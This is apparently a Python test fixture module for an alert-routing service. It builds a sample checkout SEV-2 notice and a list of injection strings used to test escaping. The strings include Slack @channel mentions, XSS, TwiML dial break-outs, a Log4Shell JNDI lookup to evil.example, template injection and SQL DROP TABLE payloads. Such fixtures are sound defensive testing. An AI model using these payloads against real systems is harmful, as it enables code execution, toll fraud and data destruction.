"""Deliveries to send, and the nastiest text that an alert can hold."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

from msgspec.structs import replace

from sevrouter.domain.delivery import Delivery, Notice, NoticeKind
from sevrouter.domain.ownership import Person, Team
from sevrouter.domain.sev import Sev

NOW = datetime(2026, 1, 31, 9, 5, tzinfo=UTC)

ANA = Person("ana", phone="+4930123456", slack="U0ANA", jira="5b10ac8d")
PAYMENTS = Team("payments", slack_channel="C0PAY", slack_mention="S0PAY", jira_project="PAY", jira_assignee=ANA)
TEAMS = {"payments": PAYMENTS}
PEOPLE = {"ana": ANA}

HINT = "checkout 2.14.0 was deployed 12 min before it began: if related, roll back"

# Each of these does something somewhere when it is not escaped.
INJECTIONS = (
    "<!channel> <!here> <@U0ANA> <!subteam^S0PAY> <http://evil.example|click> @here @channel #general",
    "*bold* _it_ ~gone~ `code` ```block``` > quote :fire: https://evil.example/x",
    "{html}<b>x</b>{html} [~admin] !http://evil.example/y.png! [click|http://evil.example] h1. big {noformat}",
    "</Say><Dial>+49900666</Dial> +4930999999",
    "<img src=x onerror=alert(1)> <script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %(name)s {0.__class__} {notice.key}",
    "'; DROP TABLE incidents; -- \" OR labels is EMPTY ORDER BY created \\",
)


def a_notice(kind: NoticeKind = NoticeKind.OPENED, **changes: object) -> Notice:
    """A notice of a SEV-2 in checkout."""
    notice = Notice(
        kind=kind,
        key="sevrouter-0123456789abcdef0123456789abcdef-1769850300",
        incident_id=1,
        sev=Sev.SEV_2,
        unsure=False,
        title="[SEV-2] checkout: too many errors (HighErrorRate)",
        description="More than 5 % of the requests fail.\nSince the last deployment.",
        system="checkout",
        owner="payments",
        why=(
            "SEV-2 by rule 'customers affected': annotation users_affected_percent '12.5' >= 5",
            "SEV-3 by rule 'label'",
        ),
        labels={"alertname": "HighErrorRate", "cluster": "eu-1", "instance": "10.0.0.1:9090", "severity": "critical"},
        links={"Runbook": "https://runbooks.example/checkout?a=1&b=2", "Source": "http://prometheus.example/graph"},
        opened_at=NOW - timedelta(minutes=5),
        at=NOW,
        firing=3,
        config_hash="c0ffee12",
    )
    return replace(notice, **changes)


def a_delivery(
    kind: NoticeKind = NoticeKind.OPENED,
    *,
    integration: str = "call",
    reference: str | None = None,
    unknowns: int = 0,
    **changes: object,
) -> Delivery:
    """A delivery of such a notice."""
    return Delivery(
        id=7,
        integration=integration,
        notice=a_notice(kind, **changes),
        attempts=1 + unknowns,
        unknowns=unknowns,
        received_at=NOW,
        expires_at=NOW + timedelta(hours=24),
        reference=reference,
    )


def nasty(text: str) -> dict[str, Any]:
    """The changes that put a text everywhere where an alert's text goes."""
    return {
        "title": f"[SEV-2] {text}",
        "description": text,
        "why": (text, text),
        "note": text,
        "deployments": (text, text),
        "labels": {"alertname": text, "cluster": text, "instance": text, "phone": text, text[:80]: text},
    }
